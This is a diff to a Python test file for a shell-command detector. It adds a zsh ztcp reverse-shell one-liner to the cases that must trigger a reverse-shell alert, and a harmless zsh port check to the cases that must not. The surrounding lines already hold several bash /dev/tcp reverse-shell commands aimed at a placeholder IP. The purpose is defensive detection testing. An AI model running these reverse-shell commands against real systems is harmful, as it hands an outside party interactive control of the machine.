@@ -154,6 +154,7 @@ def test_dns_a_host_sensor_saw(query, rule):
     "sh < /dev/tcp/203.0.113.7/4444",
     "cat </dev/tcp/203.0.113.7/4444 | sh",
     "H=203.0.113.7; bash -i >& /dev/tcp/$H/443 0>&1",
+    "zsh -c 'zmodload zsh/net/tcp; ztcp 203.0.113.7 443; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
 ])
 def test_shell_wired_to_dev_tcp(command):
     assert "reverse_shell_dev_tcp" in alerts(command)
@@ -166,6 +167,7 @@ def test_shell_wired_to_dev_tcp(command):
     ("while ! (: </dev/tcp/127.0.0.1/6379) 2>/dev/null; do sleep 0.5; done", set()),
     ('(echo >/dev/tcp/db/5432) >/dev/null 2>&1 && echo "db is up"', set()),
     ("exec 3<>/dev/tcp/10.0.0.5/22 && echo open", set()),
+    ("zmodload zsh/net/tcp; ztcp localhost 5432 && echo up; ztcp -c", set()),
     # a socket to an outside host, no shell wired to it
     ("exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3", {"dev_tcp_socket_opened"}),
     ("echo hi > /dev/udp/203.0.113.7/53", {"dev_tcp_socket_opened"}),
